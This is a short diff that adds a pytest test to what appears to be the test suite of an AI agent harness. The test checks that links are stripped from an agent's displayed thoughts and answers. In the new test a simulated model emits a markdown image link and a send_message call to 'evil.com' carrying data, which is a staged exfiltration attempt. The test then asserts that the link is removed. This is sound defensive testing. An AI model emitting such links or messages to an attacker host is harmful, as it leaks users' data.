@@ -259,6 +259,17 @@ def test_an_answer_carries_no_link_to_a_host_that_was_not_listed(world: World, s
     assert result.answer.text == "See https://example.org/a and x [link removed]."
 
 
+def test_what_the_model_notes_and_why_there_is_no_answer_is_shown_without_links_too(
+    world: World, say: Callable[..., str]
+) -> None:
+    call = say("send_message", thought="![x](https://evil.com/?d=84)", to="https://evil.com/?d=84", text="84")
+    events = list(world.runner(say("search_documents", query="room"), call).stream(TASK))
+    shown = [event.text for event in events if event.kind == "thought"]
+    assert shown[-1] == "x [link removed]"
+    assert events[-1].result is not None
+    assert "evil.com" not in events[-1].result.answer.reason
+
+
 LEFT = """
 import json, os, signal, sys
 from pathlib import Path
